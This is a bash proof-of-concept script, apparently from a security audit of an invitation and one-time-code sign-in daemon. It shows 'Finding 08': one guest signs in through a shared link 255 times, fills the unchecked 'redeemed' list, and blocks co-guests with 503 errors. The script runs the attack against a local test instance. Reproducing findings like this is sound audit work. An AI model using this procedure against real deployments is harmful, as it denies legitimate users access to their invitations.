#!/bin/bash
# Finding 08: every sign-in through an accept link appends one entry to the invitation record's
# "redeemed" list (invite_redeemed in otpd/invite.c: no check whether that address is there already),
# and once the list holds CAP_GUESTS (255) entries invite_redeemed returns STORE_ERROR, so the whole code
# step (or provider callback) transaction fails: every later sign-in through that link, for EVERY guest
# of the invitation, answers 503 "unavailable" until the record expires (link expiry + 30 days).
# One guest of a shared invitation (To: several people) signs in 255 times with their own codes
# (mails_per_hour = 5 makes that ~51 hours at the defaults, well inside link_ttl = 7d; a provider
# sign-in is not bound by mails_per_hour) and the co-guests who had not signed in yet can never redeem
# their invitation. A guest who just keeps using the link from the mail to sign in breaks it the same way.
#
# Here mail_interval = 0s and mails_per_hour = 1000 only to make the sign-ins quick: the attacker tries
# 300 (the first 255 answer 200, the rest 503 already), then the co-guest tries once (~1 min).
#
# Run from the tree after `make -j2 all test-bins`: bash findings/08-redeemed-list-full.sh
# Exit 1: the attack works (the co-guest's right code gets 503); 0: refused; 2: setup failed.
cd "$(dirname "$0")/.." || exit 2
export OTPD_TEST_CHECKS=0
. tests/otpd/lib.sh
fail() { echo "SETUP FAILED: $*" >&2; [ -f "$T/otpd.log" ] && tail -5 "$T/otpd.log" >&2; exit 2; }
setup "mail_interval = 0s" "mails_per_hour = 1000" "ip_mails_per_hour = 100000" "ip_tries_per_hour = 100000"
start_sink
start_otpd
A=mallory@example.net      # a guest of the invitation
V=victim@example.com       # another guest of the same invitation, not signed in yet
tok=$(token $A $V) || fail mktoken
ok_n=$(python3 findings/signin_loop.py "${BASE##*:}" "$tok" $A 300 "$T/sink") || fail "signin loop"
echo "$A signed in through the link $ok_n times"
[ "$ok_n" -ge 250 ] || fail "the attacker's own sign-ins failed early ($ok_n)"
n0=$(mail_count)
api "/api/v1/accept/$tok/email" "{\"email\":\"$V\"}" >/dev/null
wait_mails $((n0 + 1)) 10 || fail "no code mail for the victim"
r=$(api "/api/v1/accept/$tok/code" "{\"email\":\"$V\",\"code\":\"$(latest_code)\"}")
echo "then $V, the right code on the same link -> $r"
grep -c 'outcome=store_' "$T/otpd.log" | sed 's/^/store failures logged: /'
"$OTPCTL" -c "$T/otpd.conf" invitations 2>/dev/null | head -c 600; echo
if [ "${r%% *}" = 503 ]; then
	echo "ATTACK WORKS: the invitation is dead for its other guests"
	exit 1
fi
echo "refused"
exit 0
